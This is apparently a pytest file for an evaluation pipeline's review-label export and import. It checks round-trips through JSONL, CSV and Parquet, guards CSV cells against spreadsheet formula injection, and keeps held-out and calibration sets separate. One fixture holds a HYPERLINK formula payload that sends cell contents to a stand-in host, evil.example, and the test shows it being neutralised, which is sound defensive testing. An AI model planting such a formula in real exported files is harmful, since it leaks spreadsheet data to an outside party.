"""Labels and reviews leave with every column, safe to open in a spreadsheet, and come back as the same labels."""

import csv
import datetime as dt
import io
import json
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from eval_pipeline.errors import SettingsError
from eval_pipeline.review.files.exporting import labels_of, reviews_of, write_rows
from eval_pipeline.review.files.formula_safety import as_written, formula_safe
from eval_pipeline.review.files.reviews_file import ImportRules, read_reviews
from eval_pipeline.review.labels import derive_labels
from eval_pipeline.tables import HumanLabels, RawSessions, Reviews
from tests.fakes import MemoryWarehouse
from tests.resources.frames import frame_for
from tests.review.test_labels import CALIBRATION_USER, DAY, HELD_OUT_USER, review, review_frame

ENDINGS = [".jsonl", ".csv", ".parquet"]
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"click")'
SESSIONS = pd.DataFrame(
    {"session_id": ["held", "tuned"], "user_id": [HELD_OUT_USER, CALIBRATION_USER], "origin": "production"}
)


def a_reading() -> pd.DataFrame:
    """Two people, one of them after the reveal too, a lead, and a repeat; of a held-out session and another."""
    drawn: dict[str, Any] = {"arm": "control", "inclusion_probability": 0.25, "design_id": "d1", "seconds": 12.5}
    said = {"judge:tone": {"said": "fail", "version": "1+aa", "response": "agreed"}}
    given = review_frame(
        [
            review("ada", "fail", 9, category="rude", note=FORMULA, first_bad_turn=3, session_id="held", **drawn),
            review(
                "ada", {"judge:tone": "fail"}, 10, session_id="held", is_blind=False, machine_words=said, revision=2
            ),
            review("ben", "pass", 9, session_id="held", **drawn),
            review("lea", "pass", 11, session_id="held", stage="adjudication"),
            review("ada", "fail", 12, session_id="held", is_repeat=True),
            review("+ben", "unsure", 9, session_id="tuned", note="'=1", **drawn),
            review("ada", {}, 13, session_id="tuned", is_blind=False),
            review("ben", {"signal:loop": "pass"}, 14, session_id="tuned", is_blind=False, category="rude"),
        ]
    )
    return given.assign(review_id=pd.Series([f"r{n}" for n in range(len(given))], dtype=given["review_id"].dtype))


def rules() -> ImportRules:
    return ImportRules(
        session_days={"held": DAY, "tuned": DAY},
        categories=["rude"],
        known={"1": ["rude"]},
        taxonomy_version="2",
        redaction_version="2",
        now=dt.datetime(2026, 3, 12, tzinfo=dt.UTC),
        redact_text=str,
    )


def stored() -> MemoryWarehouse:
    warehouse = MemoryWarehouse()
    sessions = frame_for(RawSessions, 2, DAY).assign(**SESSIONS.to_dict("list"))
    warehouse.replace_day(RawSessions, DAY, [sessions])
    warehouse.append(Reviews, a_reading())
    warehouse.replace_day(HumanLabels, DAY, [derive_labels(DAY, a_reading(), SESSIONS)])
    return warehouse


@pytest.mark.parametrize("ending", ENDINGS)
def test_reviews_that_leave_and_come_back_give_the_same_labels(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"reviews{ending}"
    write_rows(a_reading(), path)
    again, rejected = read_reviews(path, rules())
    assert rejected == []
    assert (again["source"] == "import").all()
    kept = [name for name in Reviews.to_schema().columns if name not in ("source", "revision")]
    pd.testing.assert_frame_equal(again[kept], a_reading()[kept])
    pd.testing.assert_frame_equal(derive_labels(DAY, again, SESSIONS), derive_labels(DAY, a_reading(), SESSIONS))


@pytest.mark.parametrize("ending", ENDINGS)
def test_every_column_leaves_whatever_it_holds(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"labels{ending}"
    hostile = frame_for(HumanLabels)
    write_rows(hostile, path)
    assert [row["target"] for row in written(path)] == list(hostile["target"])
    assert all(list(row) == list(HumanLabels.to_schema().columns) for row in written(path))


def written(path: Path) -> list[dict[str, Any]]:
    """What a file holds, cells of a CSV read back as they were."""
    if path.suffix == ".parquet":
        return pq.read_table(path).to_pylist()
    if path.suffix == ".jsonl":
        return [json.loads(line) for line in path.read_bytes().splitlines()]
    rows = csv.DictReader(io.StringIO(path.read_bytes().decode(), newline=""))
    return [{name: as_written(cell) for name, cell in row.items()} for row in rows]


def test_no_cell_is_a_formula(tmp_path: Path) -> None:
    write_rows(a_reading(), tmp_path / "reviews.csv")
    text = (tmp_path / "reviews.csv").read_bytes().decode()
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    assert rows[0]["note"] == f"'{FORMULA}"
    assert {row["reviewer"] for row in rows} == {"ada", "ben", "lea", "'+ben"}
    assert not [cell for row in rows for cell in row.values() if cell[:1] in tuple("=+-@\t\r\0")]
    assert text.count("\r\n") == len(rows) + 1


starts = st.text(alphabet="'=+-@\t\r\n\0ab\uff1d", max_size=6)


@given(starts | st.text(max_size=20))
def test_a_guarded_cell_is_no_formula_and_is_read_as_it_was(text: str) -> None:
    assert as_written(formula_safe(text)) == text
    assert formula_safe(text)[:1] not in tuple("=+-@\t\r\0")
    assert formula_safe(text) in (text, f"'{text}")


def test_an_apostrophe_that_a_person_typed_stays(tmp_path: Path) -> None:
    path = tmp_path / "own.csv"
    path.write_text("session_id,reviewer,label,note\ntuned,ada,fail,'-none of it\n")
    assert list(read_reviews(path, rules())[0]["note"]) == ["'-none of it"]


def test_the_two_sets_never_stand_in_one_file() -> None:
    warehouse = stored()
    held, tuned = labels_of(warehouse, "held_out"), labels_of(warehouse, "calibration")
    assert list(zip(held["session_id"], held["target"], strict=True)) == [("held", "session")]
    assert sorted(zip(tuned["session_id"], tuned["target"], strict=True)) == [
        ("held", "judge:tone"),
        ("tuned", "session"),
        ("tuned", "signal:loop"),
    ]
    assert set(reviews_of(warehouse, "calibration")["session_id"]) == {"tuned"}
    assert len(reviews_of(warehouse, "held_out")) == 5


def test_one_target_can_be_taken_alone() -> None:
    warehouse = stored()
    assert list(labels_of(warehouse, "calibration", "judge:tone")["target"]) == ["judge:tone"]
    assert len(reviews_of(warehouse, "held_out", "judge:tone")) == 1


def test_a_file_is_never_replaced_unasked(tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    path.write_text("mine")
    with pytest.raises(SettingsError, match="--force"):
        write_rows(a_reading(), path)
    assert path.read_text() == "mine"
    write_rows(a_reading(), path, may_overwrite=True)
    assert path.read_text() != "mine"


@pytest.mark.parametrize("name", ["labels.xlsx", "labels", "gone/labels.csv"])
def test_a_file_that_cannot_be_written_says_how_to_mend_it(tmp_path: Path, name: str) -> None:
    with pytest.raises(SettingsError, match="Mend"):
        write_rows(a_reading(), tmp_path / name)


def test_an_imported_label_carries_no_more_of_the_sampling_than_its_line_says(tmp_path: Path) -> None:
    path = tmp_path / "labels.jsonl"
    bare = {"session_id": "held", "reviewer": "ada", "label": "fail", "is_blind": True}
    drawn = {**bare, "session_id": "tuned", "arm": "control", "inclusion_probability": 0.25}
    path.write_text(f"{json.dumps(bare)}\n{json.dumps(drawn)}\n")
    labels = derive_labels(DAY, read_reviews(path, rules())[0], SESSIONS).set_index("session_id")
    # What has no probability enters no weighted rate: tests/calibration/test_traffic.py.
    assert pd.isna(labels.loc["held", "inclusion_probability"])
    assert labels.loc["tuned", "inclusion_probability"] == 0.25
